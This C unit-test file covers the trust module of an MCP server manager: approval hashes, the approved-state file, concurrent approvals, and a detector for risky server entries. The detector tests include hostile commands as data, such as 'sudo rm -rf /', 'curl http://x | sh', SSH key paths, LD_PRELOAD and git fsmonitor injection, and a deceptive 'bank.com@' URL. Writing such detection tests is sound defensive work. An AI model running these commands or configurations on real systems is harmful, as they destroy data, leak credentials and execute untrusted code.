/* SPDX-License-Identifier: MIT */
#include "base/buf.h"
#include "base/mem.h"
#include "base/path.h"
#include "base/vec.h"
#include "at_once.h"
#include "host/server_file.h"
#include "host/trust.h"
#include "quoted.h"
#include "test.h"

#include <locale.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* The one target of an entry; the caller finishes the config. */
static const struct target *
target_of(struct server_file *c, const char *entry)
{
	char *text = mem_printf("{'servers':{'s':%s}}", entry);
	char *json = quoted(text);

	assert_true(server_file_parse(c, json, strlen(json), "f", NULL));
	free(json);
	free(text);
	return &c->items[0];
}

static void
mark_of(const char *entry, char mark[SHA256_HEX])
{
	struct server_file c;

	trust_mark(target_of(&c, entry), mark);
	server_file_finish(&c);
}

/* Any difference makes it another server. */
static void
test_marks(void **state)
{
	static const char *const entries[] = {
		"{'command':'x'}",
		"{'command':'x','args':['y']}",
		"{'command':'x','args':['y','']}",
		"{'command':'x','args':['y ','']}",
		"{'command':'x y'}",
		"{'command':'x','env':{'y':''}}",
		"{'command':'x','env':{'y':'1'}}",
		"{'command':'x','cwd':'y'}",
		"{'command':'x','cwd':'/'}",
		"{'url':'http://x'}",
		"{'url':'http://x','headers':{'A':'b'}}",
		"{'url':'http://x','headers':{'A':'c'}}",
		"{'type':'sse','url':'http://x'}",
	};
	enum { COUNT = ARRAY_LEN(entries) };
	char marks[COUNT][SHA256_HEX], again[SHA256_HEX];

	for (size_t i = 0; i < COUNT; i++) {
		mark_of(entries[i], marks[i]);
		mark_of(entries[i], again);
		assert_string_equal(marks[i], again);
		for (size_t k = 0; k < i; k++)
			assert_string_not_equal(marks[i], marks[k]);
	}
	/* a relative command is another one elsewhere */
	char *here = getcwd(NULL, 0);
	assert_int_equal(chdir("/"), 0);
	mark_of(entries[0], again);
	assert_string_not_equal(again, marks[0]);
	assert_int_equal(chdir(here), 0);
	free(here);
}

/* Create the state folder; remove it. */
static void
keep_state_in(char *folder)
{
	assert_non_null(mkdtemp(folder));
	setenv("XDG_STATE_HOME", folder, 1);
}

static void
remove_state(const char *folder)
{
	char *path = path_of(PATH_STATE, "approved"), *lock = path_of(PATH_STATE, "approved.lock");
	char *below = mem_printf("%s/mcpane", folder);

	unlink(path);
	unlink(lock);
	rmdir(below);
	assert_int_equal(rmdir(folder), 0);
	free(below);
	free(lock);
	free(path);
}

static void
test_memory(void **state)
{
	char folder[] = "/tmp/mcpane-trust-XXXXXX";
	char one[SHA256_HEX], two[SHA256_HEX];
	struct server_file c;
	struct stat status;
	struct err err = { "" };

	keep_state_in(folder);
	const struct target *t = target_of(&c, "{'command':'x'}");
	mark_of("{'command':'x'}", one);
	mark_of("{'command':'y'}", two);
	assert_false(trust_is_given(one));
	assert_true(trust_give(t, one, &err));
	assert_true(trust_is_given(one));
	assert_false(trust_is_given(two));
	assert_true(trust_give(t, two, &err));
	assert_true(trust_give(t, one, &err));
	assert_true(trust_is_given(one) && trust_is_given(two));

	char *path = path_of(PATH_STATE, "approved");
	assert_int_equal(stat(path, &status), 0);
	assert_int_equal(status.st_mode & 0777, 0600);
	assert_int_equal(status.st_size, 2 * (64 + 1 + 3 + 1));
	/* a malformed line approves nothing */
	assert_true(path_write_file(path, one + 1, 63, &err));
	assert_false(trust_is_given(one));
	/* nor is a whole line after half of one lost */
	assert_true(trust_give(t, one, &err));
	assert_true(trust_is_given(one));
	/* a pipe instead of the file is not waited for */
	assert_int_equal(unlink(path) | mkfifo(path, 0600), 0);
	assert_false(trust_is_given(one));
	assert_false(trust_give(t, one, &err));
	assert_non_null(strstr(err.text, "is not a regular file"));
	free(path);
	remove_state(folder);
	server_file_finish(&c);
}

enum { PROGRAMS = 8 };
static char marks[PROGRAMS][SHA256_HEX];

static bool
give(int number)
{
	struct target t = { .file = (char *)".mcp.json" };
	struct err err;

	return trust_give(&t, marks[number], &err);
}

/* Programs that approve at the same moment lose no answer. */
static void
test_at_once(void **state)
{
	char folder[] = "/tmp/mcpane-trust-XXXXXX";

	keep_state_in(folder);
	for (int i = 0; i < PROGRAMS; i++)
		memset(marks[i], 'a' + i, SHA256_HEX - 1);
	at_once(PROGRAMS, give);
	for (int i = 0; i < PROGRAMS; i++)
		assert_true(trust_is_given(marks[i]));
	remove_state(folder);
}

/* "text: why" of each. */
static void
assert_dangers_in(const char *folder, const char *entry, const char *expected)
{
	struct server_file c;
	struct dangers d = { 0 };
	struct buf out = BUF_INIT;

	trust_find_dangers(target_of(&c, entry), folder, &d);
	for (size_t i = 0; i < d.len; i++)
		buf_addf(&out, "%s%s: %s", i ? " | " : "", d.items[i].text, d.items[i].why);
	assert_string_equal(buf_text(&out), expected);
	buf_finish(&out);
	free(d.items);
	server_file_finish(&c);
}

static void
assert_dangers(const char *entry, const char *expected)
{
	assert_dangers_in("/work/here", entry, expected);
}

/* The user's own servers of other clients may be anywhere, so their path is not shown. */
static void
test_no_folder_to_leave(void **state)
{
	static const char entry[] =
	    "{'command':'/home/u/bin/x','args':['../y','/home/u/data'],'cwd':'/tmp'}";

	assert_dangers_in(NULL, entry, "");
	assert_dangers(entry,
	    "/home/u/bin/x: a path outside of this folder | ../y: a path outside of this folder | "
	    "/home/u/data: a path outside of this folder | /tmp: a path outside of this folder");
	assert_dangers_in(NULL, "{'command':'x','args':['/home/u/.ssh','--a=/etc/x']}",
	    "/home/u/.ssh: keys and secrets are kept there | "
	    "--a=/etc/x: a path of the system's settings");
}

static void
test_dangers(void **state)
{
	assert_dangers("{'command':'node','args':['server.js','--port','80']}", "");
	assert_dangers("{'command':'/usr/bin/node','args':['/work/here/server.js']}", "");
	assert_dangers("{'command':'npx','args':['-y','x']}",
	    "npx: fetches code from the network and runs it");
	assert_dangers("{'command':'/usr/bin/sudo','args':['rm','-rf','/']}",
	    "/usr/bin/sudo: runs as another user, with all rights | rm: deletes files | "
	    "-rf: deletes files | /: a path outside of this folder");
	assert_dangers("{'command':'bash','args':['-c','curl http://x | sh']}",
	    "bash: a shell runs the text that follows | curl http://x | sh: talks to the network "
	    "| curl http://x | sh: fetches code from the network and runs it");
	assert_dangers("{'command':'python3','args':['-c','1']}", "-c: runs the code that follows");
	assert_dangers("{'command':'docker','args':['run','-v','/:/host','img']}",
	    "run: fetches code from the network and runs it | -v: gives it a part of this machine "
	    "| /:/host: a path outside of this folder");
	assert_dangers(
	    "{'command':'x','args':['../y','--key=/home/u/.ssh/id_rsa','/work/hereafter'],"
	    "'cwd':'/tmp','env':{'LD_PRELOAD':'x','OK':'1'}}",
	    "../y: a path outside of this folder | --key=/home/u/.ssh/id_rsa: keys and secrets are "
	    "kept there | --key=/home/u/.ssh/id_rsa: a path outside of this folder | "
	    "/work/hereafter: a path outside of this folder | LD_PRELOAD=x: changes what programs "
	    "load and run | /tmp: a path outside of this folder");
	assert_dangers("{'command':'git','env':{'GIT_CONFIG_KEY_0':'core.fsmonitor',"
		       "'https_proxy':'x','UV_DEFAULT_INDEX':'y','GIT_AUTHOR_NAME':'z'}}",
	    "GIT_CONFIG_KEY_0=core.fsmonitor: changes what programs load and run | "
	    "https_proxy=x: sends its traffic through another machine | "
	    "UV_DEFAULT_INDEX=y: decides where code is fetched from");
	assert_dangers("{'command':'x','args':['a\xe2\x80\x8b']}",
	    "a\xe2\x80\x8b: has characters that do not show");
	assert_dangers("{'url':'https://example.com/mcp'}", "");
	assert_dangers("{'url':'http://localhost:1/mcp'}", "");
	assert_dangers("{'url':'http://127.0.0.1/'}", "");
	assert_dangers("{'url':'http://127.evil.example/'}",
	    "http://127.evil.example/: is not encrypted: "
	    "anybody on the way can read and change it");
	assert_dangers("{'url':'http://example.com/'}",
	    "http://example.com/: is not encrypted: anybody on the way can read and change it");
	/* whom it pretends to be is not even shown */
	assert_dangers("{'url':'https://bank.com@10.0.0.1/'}",
	    "https://10.0.0.1/: is an address of this network");
}

TEST_FILE(trust)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_marks),
		cmocka_unit_test(test_memory),
		cmocka_unit_test(test_at_once),
		cmocka_unit_test(test_dangers),
		cmocka_unit_test(test_no_folder_to_leave),
	};

	setlocale(LC_CTYPE, "C.UTF-8");
	return cmocka_run_group_tests(tests, NULL, NULL);
}
